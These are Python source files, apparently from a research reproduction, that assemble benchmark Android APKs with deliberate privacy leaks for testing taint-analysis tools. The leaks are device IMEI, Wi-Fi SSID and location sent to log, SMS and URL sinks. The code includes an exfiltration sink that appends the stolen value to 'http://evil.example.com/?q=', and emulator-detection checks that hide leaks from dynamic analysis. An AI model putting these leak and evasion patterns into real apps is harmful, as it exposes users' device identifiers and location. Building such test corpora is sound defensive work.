    invoke-virtual {{v1, p0}}, Landroid/view/View;->setOnClickListener(Landroid/view/View$OnClickListener;)V
    return-void
.end method

.method public onClick(Landroid/view/View;)V
    .registers 4
    const/16 v0, 42
    invoke-virtual {{p0, v0}}, {cls}->findViewById(I)Landroid/view/View;
    move-result-object v0
    check-cast v0, Landroid/widget/TextView;
    invoke-virtual {{v0}}, Landroid/widget/TextView;->getText()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->sms(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(
        cls, body + helper_suffix(cls),
        implements="Landroid/view/View$OnClickListener;",
    )

    def build():
        return make_sample_apk("de.bench.callbacks.button1", cls, smali)

    return Sample(
        name="Button1", category="callbacks", leaky=True, expected_leaks=1,
        build=build, description="widget-mediated leak in onClick (Table IV)",
    )


def _button3() -> Sample:
    """Two widget-mediated leaks through two distinct sinks."""
    cls = "Lde/bench/callbacks/Button3;"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const/16 v1, 7
    invoke-virtual {{p0, v1}}, {cls}->findViewById(I)Landroid/view/View;
    move-result-object v1
    check-cast v1, Landroid/widget/TextView;
    invoke-virtual {{v1, v0}}, Landroid/widget/TextView;->setText(Ljava/lang/String;)V
    invoke-virtual {{v1, p0}}, Landroid/view/View;->setOnClickListener(Landroid/view/View$OnClickListener;)V
    return-void
.end method

.method public onClick(Landroid/view/View;)V
    .registers 4
    const/16 v0, 7
    invoke-virtual {{p0, v0}}, {cls}->findViewById(I)Landroid/view/View;
    move-result-object v0
    check-cast v0, Landroid/widget/TextView;
    invoke-virtual {{v0}}, Landroid/widget/TextView;->getText()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->sms(Ljava/lang/String;)V
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(
        cls, body + helper_suffix(cls),
        implements="Landroid/view/View$OnClickListener;",
    )

    def build():
        return make_sample_apk("de.bench.callbacks.button3", cls, smali)

    return Sample(
        name="Button3", category="callbacks", leaky=True, expected_leaks=2,
        build=build, description="two widget-mediated leaks (Table IV)",
    )


def _listener_class_sample(index: int) -> Sample:
    """Leak in a separate registered listener class fed via constructor."""
    main = f"Lde/bench/callbacks/Main{index};"
    listener = f"Lde/bench/callbacks/Listener{index};"
    sink = ("logIt", "sms", "www")[index % 3]
    main_text = activity_class(main, f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-virtual {{p0}}, {main}->getImei()Ljava/lang/String;
    move-result-object v0
    new-instance v1, {listener}
    invoke-direct {{v1, p0, v0}}, {listener}-><init>({main}Ljava/lang/String;)V
    const/16 v2, {10 + index}
    invoke-virtual {{p0, v2}}, {main}->findViewById(I)Landroid/view/View;
    move-result-object v2
    invoke-virtual {{v2, v1}}, Landroid/view/View;->setOnClickListener(Landroid/view/View$OnClickListener;)V
    return-void
.end method
""" + helper_suffix(main))
    listener_text = activity_class(listener, f"""
.method public <init>({main}Ljava/lang/String;)V
    .registers 4
    invoke-direct {{p0}}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, {listener}->host:{main}
    iput-object p2, p0, {listener}->data:Ljava/lang/String;
    return-void
.end method

.method public onClick(Landroid/view/View;)V
    .registers 4
    iget-object v0, p0, {listener}->host:{main}
    iget-object v1, p0, {listener}->data:Ljava/lang/String;
    invoke-virtual {{v0, v1}}, {main}->{sink}(Ljava/lang/String;)V
    return-void
.end method
""", superclass="Ljava/lang/Object;",
        implements="Landroid/view/View$OnClickListener;",
        fields=f".field public host:{main}\n.field public data:Ljava/lang/String;")

    def build():
        return multi_class_apk(
            f"de.bench.callbacks.listener{index}", main, [main_text, listener_text]
        )

    return Sample(
        name=f"Callback{index}", category="callbacks", leaky=True,
        build=build, description=f"leak via dedicated listener class, {sink}",
    )


def _self_listener_sample(index: int) -> Sample:
    """Activity registers itself; source inside the callback."""
    cls = f"Lde/bench/callbacks/SelfListen{index};"
    source = ("getImei", "getSsid", "getLoc")[index % 3]
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/16 v0, {20 + index}
    invoke-virtual {{p0, v0}}, {cls}->findViewById(I)Landroid/view/View;
    move-result-object v0
    invoke-virtual {{v0, p0}}, Landroid/view/View;->setOnClickListener(Landroid/view/View$OnClickListener;)V
    return-void
.end method

.method public onClick(Landroid/view/View;)V
    .registers 3
    invoke-virtual {{p0}}, {cls}->{source}()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->logIt(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(
        cls, body + helper_suffix(cls),
        implements="Landroid/view/View$OnClickListener;",
    )

    def build():
        return make_sample_apk(f"de.bench.callbacks.selflisten{index}", cls, smali)

    return Sample(
        name=f"SelfListener{index}", category="callbacks", leaky=True,
        build=build, description=f"source+sink inside onClick ({source})",
    )


def samples() -> list[Sample]:
    out = [_button1(), _button3()]
    out += [_listener_class_sample(i) for i in range(4)]
    out += [_self_listener_sample(i) for i in range(4)]
    return out
