"""DroidBench-analogue sample categories."""
