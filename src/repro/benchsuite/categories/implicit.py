"""Implicit-flow samples (including Table IV's ImplicitFlow1).

The secret is leaked through *control dependence*: branch on the
sensitive value, emit constants in the branches.  Only tools that
propagate taint through branch conditions (HornDroid-like) see these;
explicit-only dataflow (FlowDroid-, DroidSafe-like and both dynamic
trackers) is blind.
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, make_sample_apk


def _implicit_flow1() -> Sample:
    """Two implicit leaks: char-by-char digit test to two sinks."""
    cls = "Lde/bench/implicit/ImplicitFlow1;"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0
    invoke-virtual {{v0, v1}}, Ljava/lang/String;->charAt(I)C
    move-result v1
    const/16 v2, 53
    if-ne v1, v2, :other
    const-string v3, "first-digit-is-5"
    goto :out
    :other
    const-string v3, "first-digit-not-5"
    :out
    invoke-virtual {{p0, v3}}, {cls}->logIt(Ljava/lang/String;)V
    invoke-virtual {{p0, v3}}, {cls}->sms(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk("de.bench.implicit.flow1", cls, smali)

    return Sample(
        name="ImplicitFlow1", category="implicit", leaky=True, expected_leaks=0,
        build=build,
        description="control-dependent leak (Table IV); oracle sees no "
                    "explicit flow, ground truth is leaky",
    )


def _sample(index: int) -> Sample:
    cls = f"Lde/bench/implicit/Implicit{index};"
    sink = ("logIt", "sms", "www")[index % 3]
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{v0}}, Ljava/lang/String;->hashCode()I
    move-result v1
    and-int/lit8 v1, v1, {1 << (index % 4)}
    if-eqz v1, :zero
    const-string v2, "bit-set"
    goto :emit
    :zero
    const-string v2, "bit-clear"
    :emit
    invoke-virtual {{p0, v2}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(f"de.bench.implicit.s{index}", cls, smali)

    return Sample(
        name=f"Implicit{index}", category="implicit", leaky=True,
        expected_leaks=0, build=build,
        description=f"one secret bit leaks implicitly via {sink}",
    )


def samples() -> list[Sample]:
    return [_implicit_flow1()] + [_sample(i) for i in range(4)]
