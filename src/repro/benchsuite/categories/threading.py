"""Threading samples: leaks crossing thread / handler boundaries."""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, multi_class_apk


def _runnable_class(runnable: str, main: str, sink: str) -> str:
    return activity_class(
        runnable,
        f"""
.method public <init>({main}Ljava/lang/String;)V
    .registers 4
    invoke-direct {{p0}}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, {runnable}->host:{main}
    iput-object p2, p0, {runnable}->payload:Ljava/lang/String;
    return-void
.end method

.method public run()V
    .registers 3
    iget-object v0, p0, {runnable}->host:{main}
    iget-object v1, p0, {runnable}->payload:Ljava/lang/String;
    invoke-virtual {{v0, v1}}, {main}->{sink}(Ljava/lang/String;)V
    return-void
.end method
""",
        superclass="Ljava/lang/Object;",
        implements="Ljava/lang/Runnable;",
        fields=f".field public host:{main}\n.field public payload:Ljava/lang/String;",
    )


def _thread_sample(index: int, launcher: str) -> Sample:
    main = f"Lde/bench/threads/Thread{launcher.capitalize()}{index};"
    runnable = f"Lde/bench/threads/Job{launcher.capitalize()}{index};"
    sink = ("logIt", "sms", "www")[index % 3]
    if launcher == "thread":
        launch = f"""
    new-instance v2, Ljava/lang/Thread;
    invoke-direct {{v2, v1}}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V
    invoke-virtual {{v2}}, Ljava/lang/Thread;->start()V
"""
    elif launcher == "handler":
        launch = f"""
    new-instance v2, Landroid/os/Handler;
    invoke-direct {{v2}}, Landroid/os/Handler;-><init>()V
    invoke-virtual {{v2, v1}}, Landroid/os/Handler;->post(Ljava/lang/Runnable;)Z
"""
    else:  # ui thread
        launch = f"""
    invoke-virtual {{p0, v1}}, {main}->runOnUiThread(Ljava/lang/Runnable;)V
"""
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    invoke-virtual {{p0}}, {main}->getImei()Ljava/lang/String;
    move-result-object v0
    new-instance v1, {runnable}
    invoke-direct {{v1, p0, v0}}, {runnable}-><init>({main}Ljava/lang/String;)V
{launch}
    return-void
.end method
"""
    main_text = activity_class(main, body + helper_suffix(main))

    def build():
        return multi_class_apk(
            f"de.bench.threads.{launcher}{index}", main,
            [main_text, _runnable_class(runnable, main, sink)],
        )

    return Sample(
        name=f"Thread{launcher.capitalize()}{index}", category="threading",
        leaky=True, build=build,
        description=f"leak crosses {launcher} boundary into run()",
    )


def samples() -> list[Sample]:
    out = []
    for index, launcher in enumerate(
        ["thread", "thread", "handler", "handler", "ui", "ui"]
    ):
        out.append(_thread_sample(index, launcher))
    return out
