"""Field-sensitivity samples plus the flow-order and container FP traps.

Leaky: taint stored in one field, read from the SAME field.
Benign traps:

* ``FieldFlowOrder*`` — sink reads the field *before* the source writes
  it (flow-insensitive tools report it anyway: DroidSafe-style FPs);
* ``Container*`` — taint stored in a map under one key, a different key
  leaked (container-blurred taint: FPs for every tool, original AND
  revealed — exactly the residual FPs of Table II/III).
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, make_sample_apk


def _leaky_sample(index: int) -> Sample:
    """Two fields; the tainted one leaks (field-sensitive tools: 1 flow)."""
    cls = f"Lde/bench/fields/FieldSense{index};"
    sink = ("logIt", "sms", "www")[index % 3]
    source = ("getImei", "getSsid", "getLoc")[index % 3]
    fields = (
        ".field public hot:Ljava/lang/String;\n"
        ".field public cold:Ljava/lang/String;"
    )
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-virtual {{p0}}, {cls}->{source}()Ljava/lang/String;
    move-result-object v0
    iput-object v0, p0, {cls}->hot:Ljava/lang/String;
    const-string v1, "benign"
    iput-object v1, p0, {cls}->cold:Ljava/lang/String;
    iget-object v1, p0, {cls}->hot:Ljava/lang/String;
    invoke-virtual {{p0, v1}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls), fields=fields)

    def build():
        return make_sample_apk(f"de.bench.fields.sense{index}", cls, smali)

    return Sample(
        name=f"FieldSense{index}", category="fieldsense", leaky=True,
        build=build, description=f"tainted field leaks via {sink}",
    )


def _flow_order_trap(index: int) -> Sample:
    """Sink BEFORE source on the same field: no real flow."""
    cls = f"Lde/bench/fields/FieldFlowOrder{index};"
    fields = ".field public slot:Ljava/lang/String;"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const-string v0, "empty"
    iput-object v0, p0, {cls}->slot:Ljava/lang/String;
    iget-object v1, p0, {cls}->slot:Ljava/lang/String;
    invoke-virtual {{p0, v1}}, {cls}->logIt(Ljava/lang/String;)V
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    iput-object v0, p0, {cls}->slot:Ljava/lang/String;
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls), fields=fields)

    def build():
        return make_sample_apk(f"de.bench.fields.order{index}", cls, smali)

    return Sample(
        name=f"FieldFlowOrder{index}", category="fieldsense", leaky=False,
        build=build,
        description="sink reads field before source writes it (FP trap)",
    )


def _container_trap(index: int) -> Sample:
    """Taint under map key A; key B is leaked: container blur FP for all."""
    cls = f"Lde/bench/fields/Container{index};"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    new-instance v0, Ljava/util/HashMap;
    invoke-direct {{v0}}, Ljava/util/HashMap;-><init>()V
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v1
    const-string v2, "secret"
    invoke-virtual {{v0, v2, v1}}, Ljava/util/HashMap;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
    const-string v2, "public"
    const-string v3, "hello"
    invoke-virtual {{v0, v2, v3}}, Ljava/util/HashMap;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
    const-string v2, "public"
    invoke-virtual {{v0, v2}}, Ljava/util/HashMap;->get(Ljava/lang/Object;)Ljava/lang/Object;
    move-result-object v1
    check-cast v1, Ljava/lang/String;
    invoke-virtual {{p0, v1}}, {cls}->logIt(Ljava/lang/String;)V
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(f"de.bench.fields.container{index}", cls, smali)

    return Sample(
        name=f"Container{index}", category="fieldsense", leaky=False,
        build=build,
        description="benign map key leaked; container blur FP (all tools)",
    )


def samples() -> list[Sample]:
    out = [_leaky_sample(i) for i in range(8)]
    out += [_flow_order_trap(i) for i in range(2)]
    out += [_container_trap(i) for i in range(2)]
    return out
