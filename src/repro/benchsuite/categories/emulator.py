"""Emulator-detection and device-gated samples.

``EmulatorDetection*`` leak only on real hardware (Build fingerprint
checks).  Statically the flow is visible regardless; dynamically it
evades emulator-hosted tools (TaintDroid in Table IV).  ``TabletOnly1``
leaks only on tablets — the paper's single DexLego miss ("sensitive data
only leaks in the tablet, and it cannot be detected as we execute it in
a mobile phone").
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, make_sample_apk


def _emulator_sample(index: int) -> Sample:
    cls = f"Lde/bench/emulator/EmulatorDetection{index + 1};"
    check_field = ("FINGERPRINT", "HARDWARE", "MODEL", "BRAND")[index % 4]
    needle = ("generic", "goldfish", "sdk_gphone", "generic")[index % 4]
    sink = ("logIt", "sms", "www")[index % 3]
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    sget-object v0, Landroid/os/Build;->{check_field}:Ljava/lang/String;
    const-string v1, "{needle}"
    invoke-virtual {{v0, v1}}, Ljava/lang/String;->contains(Ljava/lang/CharSequence;)Z
    move-result v2
    if-nez v2, :emulator
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->{sink}(Ljava/lang/String;)V
    :emulator
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk(f"de.bench.emulator.s{index}", cls, smali)

    return Sample(
        name=f"EmulatorDetection{index + 1}", category="emulator", leaky=True,
        build=build,
        description=f"leaks unless Build.{check_field} looks like an emulator",
    )


def _tablet_only() -> Sample:
    """Leaks only when running on tablet hardware (paper's one miss)."""
    cls = "Lde/bench/emulator/TabletOnly1;"
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    sget-object v0, Landroid/os/Build;->HARDWARE:Ljava/lang/String;
    const-string v1, "dragon"
    invoke-virtual {{v0, v1}}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
    move-result v2
    if-eqz v2, :phone
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0, v0}}, {cls}->sms(Ljava/lang/String;)V
    :phone
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls))

    def build():
        return make_sample_apk("de.bench.emulator.tablet", cls, smali)

    return Sample(
        name="TabletOnly1", category="emulator", leaky=True, expected_leaks=0,
        build=build,
        description="tablet-gated leak; never fires on the phone device "
                    "(DexLego's single missed flow in Table II)",
    )


def samples() -> list[Sample]:
    return [_emulator_sample(i) for i in range(4)] + [_tablet_only()]
