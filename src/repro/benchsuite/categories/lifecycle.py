"""Lifecycle samples: leaks split across activity lifecycle callbacks.

Source and sink live in different lifecycle methods, connected through
instance or static fields — the pattern FlowDroid's lifecycle model was
built for.
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, make_sample_apk

# (source hook, sink hook) pairs exercised across the ten samples.
_HOOK_PAIRS = [
    ("onCreate", "onStart"),
    ("onCreate", "onResume"),
    ("onCreate", "onPause"),
    ("onCreate", "onStop"),
    ("onCreate", "onDestroy"),
    ("onStart", "onResume"),
    ("onStart", "onPause"),
    ("onResume", "onPause"),
    ("onResume", "onStop"),
    ("onCreate", "onRestart"),
]


def _field_kind(index: int) -> str:
    return "static" if index % 3 == 2 else "instance"


def _sample(index: int) -> Sample:
    source_hook, sink_hook = _HOOK_PAIRS[index]
    cls = f"Lde/bench/lifecycle/Lifecycle{index};"
    kind = _field_kind(index)
    sink = ("logIt", "sms", "www")[index % 3]
    if kind == "static":
        fields = ".field public static secret:Ljava/lang/String;"
        store = f"sput-object v0, {cls}->secret:Ljava/lang/String;"
        load = f"sget-object v0, {cls}->secret:Ljava/lang/String;"
    else:
        fields = ".field public secret:Ljava/lang/String;"
        store = f"iput-object v0, p0, {cls}->secret:Ljava/lang/String;"
        load = f"iget-object v0, p0, {cls}->secret:Ljava/lang/String;"

    source_params = "Landroid/os/Bundle;" if source_hook == "onCreate" else ""
    source_regs = 3
    body = f"""
.method public {source_hook}({source_params})V
    .registers {source_regs + (1 if source_params else 0)}
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    {store}
    return-void
.end method

.method public {sink_hook}()V
    .registers 3
    {load}
    if-eqz v0, :skip
    invoke-virtual {{p0, v0}}, {cls}->{sink}(Ljava/lang/String;)V
    :skip
    return-void
.end method
"""
    # onRestart is not part of the standard drive; route it from onPause.
    if sink_hook == "onRestart":
        body += f"""
.method public onPause()V
    .registers 2
    invoke-virtual {{p0}}, {cls}->onRestart()V
    return-void
.end method
"""
    smali = activity_class(cls, body + helper_suffix(cls), fields=fields)

    def build(cls=cls, smali=smali, index=index):
        return make_sample_apk(f"de.bench.lifecycle.s{index}", cls, smali)

    return Sample(
        name=f"Lifecycle{index}",
        category="lifecycle",
        leaky=True,
        build=build,
        description=f"{source_hook} stores in {kind} field, {sink_hook} leaks",
    )


def samples() -> list[Sample]:
    return [_sample(i) for i in range(10)]
