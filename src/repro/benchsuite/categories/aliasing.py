"""Aliasing samples: taint flows through aliased heap objects."""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import (
    activity_class,
    helper_suffix,
    multi_class_apk,
)


def _holder_class(holder: str) -> str:
    return activity_class(
        holder,
        f"""
.method public <init>()V
    .registers 1
    invoke-direct {{p0}}, Ljava/lang/Object;-><init>()V
    return-void
.end method
""",
        superclass="Ljava/lang/Object;",
        fields=".field public value:Ljava/lang/String;",
    )


def _sample(index: int) -> Sample:
    cls = f"Lde/bench/alias/Alias{index};"
    holder = f"Lde/bench/alias/Holder{index};"
    sink = ("logIt", "sms", "www")[index % 3]
    variants = [_direct_alias, _via_param, _via_return]
    body = variants[index % len(variants)](cls, holder, sink)
    main_text = activity_class(cls, body + helper_suffix(cls))

    def build():
        return multi_class_apk(
            f"de.bench.alias.s{index}", cls, [main_text, _holder_class(holder)]
        )

    return Sample(
        name=f"Aliasing{index}", category="aliasing", leaky=True,
        build=build, description=f"alias variant {index % len(variants)}",
    )


def _direct_alias(cls: str, holder: str, sink: str) -> str:
    """b = a; b.value = taint; leak a.value."""
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    new-instance v0, {holder}
    invoke-direct {{v0}}, {holder}-><init>()V
    move-object v1, v0
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v2
    iput-object v2, v1, {holder}->value:Ljava/lang/String;
    iget-object v3, v0, {holder}->value:Ljava/lang/String;
    invoke-virtual {{p0, v3}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""


def _via_param(cls: str, holder: str, sink: str) -> str:
    """Callee taints a parameter object; caller leaks it."""
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    new-instance v0, {holder}
    invoke-direct {{v0}}, {holder}-><init>()V
    invoke-virtual {{p0, v0}}, {cls}->fill({holder})V
    iget-object v1, v0, {holder}->value:Ljava/lang/String;
    invoke-virtual {{p0, v1}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method

.method public fill({holder})V
    .registers 4
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    iput-object v0, p1, {holder}->value:Ljava/lang/String;
    return-void
.end method
"""


def _via_return(cls: str, holder: str, sink: str) -> str:
    """Factory returns the same object under two names."""
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-virtual {{p0}}, {cls}->make(){holder}
    move-result-object v0
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v1
    iput-object v1, v0, {holder}->value:Ljava/lang/String;
    invoke-virtual {{p0, v0}}, {cls}->drain({holder})V
    return-void
.end method

.method public make(){holder}
    .registers 2
    new-instance v0, {holder}
    invoke-direct {{v0}}, {holder}-><init>()V
    return-object v0
.end method

.method public drain({holder})V
    .registers 3
    iget-object v0, p1, {holder}->value:Ljava/lang/String;
    invoke-virtual {{p0, v0}}, {cls}->{sink}(Ljava/lang/String;)V
    return-void
.end method
"""


def samples() -> list[Sample]:
    return [_sample(i) for i in range(6)]
