"""Market application analogues.

Two corpora:

* **Table V** — nine packed real-world apps (sample sets A/B/C = Google
  Play / 360 Market / Wandoujia) with seeded leak sites.  Every app sends
  the IMEI; three also leak location and two leak the SSID, matching the
  paper's findings.  Each is packed with a working vendor packer before
  analysis.
* **Table VIII** — three popular-app analogues (Snapchat / Instagram /
  WhatsApp) used for launch-time measurements.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.benchsuite.codegen import AppProfile, generate_app, add_leak_sites
from repro.packers.vendors import (
    AlibabaPacker,
    BaiduPacker,
    BangclePacker,
    Qihoo360Packer,
    TencentPacker,
)
from repro.runtime.apk import Apk

# (package, version, set, installs, leak count, tags, packer, size, seed)
MARKET_APP_SPECS = (
    ("com.lenovo.anyshare", "3.6.68", "A", "100 million", 4,
     ("imei", "imei", "imei", "imei"), Qihoo360Packer, 2600, 301),
    ("com.moji.mjweather", "6.0102.02", "A", "1 million", 5,
     ("imei", "location", "imei", "location", "imei"), TencentPacker, 3100, 302),
    ("com.rongcai.show", "3.4.9", "A", "100 thousand", 3,
     ("imei", "location", "imei"), AlibabaPacker, 1800, 303),
    ("com.wawoo.snipershootwar", "2.6", "B", "10 million", 4,
     ("imei", "imei", "imei", "imei"), BaiduPacker, 2400, 304),
    ("com.wawoo.gunshootwar", "2.6", "B", "10 million", 5,
     ("imei", "ssid", "imei", "imei", "imei"), BangclePacker, 2500, 305),
    ("com.alex.lookwifipassword", "2.9.6", "B", "100 thousand", 2,
     ("ssid", "imei"), Qihoo360Packer, 1200, 306),
    ("com.gome.eshopnew", "4.3.5", "C", "15.63 million", 3,
     ("imei", "imei", "imei"), TencentPacker, 2100, 307),
    ("com.szzc.ucar.pilot", "3.4.0", "C", "3.59 million", 5,
     ("imei", "location", "imei", "imei", "imei"), AlibabaPacker, 2700, 308),
    ("com.pingan.pabank.activity", "2.6.9", "C", "7.9 million", 14,
     ("imei",) * 6 + ("imei", "location", "imei", "imei", "ssid", "imei",
                      "imei", "imei"), BaiduPacker, 4200, 309),
)


@dataclass
class MarketApp:
    package: str
    version: str
    sample_set: str
    installs: str
    leak_count: int
    packed_apk: Apk
    plain_apk: Apk


def build_market_app(package: str) -> MarketApp:
    for pkg, version, sset, installs, leaks, tags, packer_cls, size, seed in (
        MARKET_APP_SPECS
    ):
        if pkg != package:
            continue
        generated = generate_app(pkg, size, seed=seed, profile=AppProfile())
        plain = add_leak_sites(generated.apk, leaks, tags)
        packed = packer_cls().pack(plain)
        return MarketApp(pkg, version, sset, installs, leaks, packed, plain)
    raise KeyError(package)


def all_market_apps() -> list[MarketApp]:
    return [build_market_app(pkg) for pkg, *_ in MARKET_APP_SPECS]


# -- Table VIII launch-time apps ------------------------------------------------

LAUNCH_APP_SPECS = (
    ("Snapchat", "com.snapchat.android", "9.43.0.0", 22_000, 401),
    ("Instagram", "com.instagram.android", "9.7.0", 16_000, 402),
    ("WhatsApp", "com.whatsapp", "2.16.310", 6_000, 403),
)


@dataclass
class LaunchApp:
    name: str
    package: str
    version: str
    apk: Apk


def all_launch_apps() -> list[LaunchApp]:
    out = []
    for name, package, version, size, seed in LAUNCH_APP_SPECS:
        generated = generate_app(package, size, seed=seed, profile=AppProfile())
        out.append(LaunchApp(name, package, version, generated.apk))
    return out
