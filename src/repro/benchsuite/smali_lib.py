"""Shared smali building blocks for the benchmark corpus.

Every sample is real bytecode assembled from these templates; nothing is
mocked.  The standard vocabulary: ``getImei``/``getSsid``/``getLoc`` as
sources, ``logIt``/``sms``/``www`` as sinks.
"""

from __future__ import annotations

from repro.dex import assemble
from repro.dex.builder import DexBuilder
from repro.runtime.apk import Apk

ACTIVITY = "Landroid/app/Activity;"


def activity_class(
    cls: str,
    body: str,
    superclass: str = ACTIVITY,
    fields: str = "",
    implements: str = "",
) -> str:
    """Wrap method bodies into a .class block."""
    lines = [f".class public {cls}", f".super {superclass}"]
    if implements:
        for interface in implements.split():
            lines.append(f".implements {interface}")
    if fields:
        lines.append(fields)
    lines.append(body)
    return "\n".join(lines) + "\n"


def source_methods(cls: str) -> str:
    """Source helpers bound to an activity class (need a Context)."""
    return f"""
.method public getImei()Ljava/lang/String;
    .registers 3
    const-string v0, "phone"
    invoke-virtual {{p0, v0}}, {cls}->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {{v0}}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method public getSsid()Ljava/lang/String;
    .registers 3
    const-string v0, "wifi"
    invoke-virtual {{p0, v0}}, {cls}->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/net/wifi/WifiManager;
    invoke-virtual {{v0}}, Landroid/net/wifi/WifiManager;->getConnectionInfo()Landroid/net/wifi/WifiInfo;
    move-result-object v0
    invoke-virtual {{v0}}, Landroid/net/wifi/WifiInfo;->getSSID()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method public getLoc()Ljava/lang/String;
    .registers 3
    const-string v0, "location"
    invoke-virtual {{p0, v0}}, {cls}->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/location/LocationManager;
    const-string v1, "gps"
    invoke-virtual {{v0, v1}}, Landroid/location/LocationManager;->getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;
    move-result-object v0
    invoke-virtual {{v0}}, Landroid/location/Location;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method
"""


def sink_methods(cls: str) -> str:
    """Sink helpers: logIt (Log), sms (SmsManager), www (URL)."""
    return f"""
.method public logIt(Ljava/lang/String;)V
    .registers 3
    const-string v0, "LEAK"
    invoke-static {{v0, p1}}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method public sms(Ljava/lang/String;)V
    .registers 8
    invoke-static {{}}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "+49 1234"
    const/4 v2, 0
    move-object v3, p1
    const/4 v4, 0
    const/4 v5, 0
    invoke-virtual/range {{v0 .. v5}}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method

.method public www(Ljava/lang/String;)V
    .registers 4
    new-instance v0, Ljava/net/URL;
    const-string v1, "http://evil.example.com/?q="
    invoke-virtual {{v1, p1}}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    invoke-direct {{v0, v1}}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    return-void
.end method
"""


def helper_suffix(cls: str) -> str:
    """Sources + sinks, the common tail of most sample activities."""
    return source_methods(cls) + sink_methods(cls)


def make_sample_apk(package: str, main_cls: str, smali: str, **kwargs) -> Apk:
    """Assemble smali text into an installable APK."""
    dex = assemble(smali)
    return Apk(package, main_cls, [dex], **kwargs)


